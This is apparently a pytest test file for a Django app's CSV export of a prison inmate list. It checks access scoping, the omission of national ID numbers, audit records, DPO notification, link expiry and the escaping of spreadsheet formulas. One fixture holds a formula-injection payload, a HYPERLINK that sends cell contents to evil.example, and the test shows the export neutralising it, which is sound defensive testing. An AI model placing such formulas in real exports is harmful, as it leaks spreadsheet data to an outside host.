"""The WBP list as CSV: the same scope and filters as the page, no NIK, audited, safe in a spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from audit.exports import spreadsheet_safe
from audit.models import AuditEvent
from tests.factories import PersonFactory, admit, export_file

pytestmark = pytest.mark.django_db

EXPORT = reverse("inmates:admission-export")


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_staff_export_their_wbp_with_the_filters_and_it_is_audited(login, staff, person, institution):
    admit(PersonFactory(full_name="Joko Widodo Santoso"), institution)
    response = export_file(login(staff), EXPORT, {"q": "Ahmad"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _rows(response)
    assert rows[0][:3] == ["Full name", "Register number", "Sex"]  # the SDP import's own columns
    assert [row[0] for row in rows[1:]] == ["Ahmad Fauzan"]
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.actor == staff and event.details["export"] == "wbp_list"
    assert event.details["filters"] == {"q": "Ahmad"}


def test_the_export_never_holds_the_nik(login, staff, person):
    body = b"".join(export_file(login(staff), EXPORT).streaming_content).decode()
    assert person.nik not in body and person.nik[:6] not in body


def test_outsiders_export_nothing_of_another_institution(login, outsider, person):
    rows = _rows(export_file(login(outsider), EXPORT, {"status": "all"}))
    assert rows[1:] == []


def test_regional_officers_export_their_region_read_only(login, regional, person):
    rows = _rows(export_file(login(regional), EXPORT))
    assert [row[0] for row in rows[1:]] == ["Ahmad Fauzan"]


def test_a_name_typed_as_a_formula_is_exported_as_text(login, staff, institution):
    admit(PersonFactory(full_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")'), institution)
    admit(PersonFactory(full_name="@SUM(1+1)"), institution)
    rows = _rows(export_file(login(staff), EXPORT))
    names = sorted(row[0] for row in rows[1:])
    assert names == ['\'=HYPERLINK("http://evil.example/?x="&A1,"klik")', "'@SUM(1+1)"]


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-5", "'-5"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Budi = Bapak", "Budi = Bapak"),
        ("", ""),
        (None, ""),
        (17, "17"),
    ],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_the_export_takes_a_fixed_number_of_queries(login, staff, institution, django_assert_max_num_queries):
    for n in range(30):
        admit(PersonFactory(full_name=f"Orang {n:02d}"), institution)
    client = login(staff)
    with django_assert_max_num_queries(12):
        asked = client.post(EXPORT, {"recipient": "Kanwil", "purpose": "Check"})
    assert asked.status_code == 302
    rows = _rows(client.get(asked["Location"]))
    assert len(rows) == 31


def test_the_list_offers_the_download_with_its_filters(login, staff, person):
    page = login(staff).get(reverse("inmates:admission-list"), {"q": "Ahmad", "page": "1"}).content.decode()
    assert f'href="{EXPORT}?q=Ahmad"' in page


def test_an_export_asks_who_receives_it_and_what_for(login, staff, person):
    client = login(staff)
    page = client.get(EXPORT, {"q": "Ahmad"})
    html = page.content.decode()
    assert page.status_code == 200 and "The file holds the data of 1 person." in html
    refused = client.post(EXPORT + "?q=Ahmad", {"recipient": "", "purpose": ""})
    assert refused.status_code == 400 and "Nothing was exported" in refused.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()
    sent = client.post(EXPORT + "?q=Ahmad", {"recipient": "Kanwil Kalsel", "purpose": "Monthly check"})
    assert sent.status_code == 302 and sent["Location"].startswith("/privasi/serah/")
    event = AuditEvent.objects.get(action=AuditEvent.Action.EXPORT)
    assert event.details["recipient"] == "Kanwil Kalsel" and event.details["purpose"] == "Monthly check"


def test_the_export_page_says_how_many_people_in_either_language(login, client, staff, person, institution):
    admit(PersonFactory(full_name="Joko Susilo"), institution)
    english = login(staff).get(EXPORT).content.decode()
    assert "The file holds the data of 2 people." in english
    client.force_login(staff)  # the plain client: the default language
    assert "Berkas ini berisi data 2 orang." in client.get(EXPORT).content.decode()


def test_many_people_need_a_reason_and_the_dpo_is_told(
    login, staff, person, institution, settings, mailoutbox, django_capture_on_commit_callbacks
):
    from accounts.models import Membership, Role
    from tests.factories import UserFactory

    settings.EXPORT_REASON_FROM = 2  # stands for 100: the rule, not the number, is what is tested
    dpo = UserFactory(username="dpo.pusat", email="dpo@ditjenpas.example")
    Membership.objects.create(user=dpo, role=Role.DPO)  # the WBP list spans UPT: the national DPO is told
    admit(PersonFactory(full_name="Joko Susilo"), institution)
    client = login(staff)
    refused = client.post(EXPORT, {"recipient": "Kanwil", "purpose": "Check"})
    assert refused.status_code == 400 and "say why all of them are needed" in refused.content.decode()
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.EXPORT).exists()
    with django_capture_on_commit_callbacks(execute=True):
        sent = client.post(EXPORT, {"recipient": "Kanwil", "purpose": "Check", "reason": "The yearly census"})
    assert sent.status_code == 302
    assert AuditEvent.objects.get(action=AuditEvent.Action.EXPORT).details["reason"] == "The yearly census"
    [mail] = mailoutbox
    assert mail.to == ["dpo@ditjenpas.example"] and "2" in mail.subject and "The yearly census" in mail.body


def test_the_export_link_expires_after_24_hours(login, staff, person):
    import datetime as dt

    import time_machine

    start = dt.datetime.now(dt.UTC)
    with time_machine.travel(start, tick=False):
        sent = login(staff).post(EXPORT, {"recipient": "Kanwil", "purpose": "Check"})
    with time_machine.travel(start + dt.timedelta(hours=24, minutes=1), tick=False):
        assert login(staff).get(sent["Location"]).status_code == 410
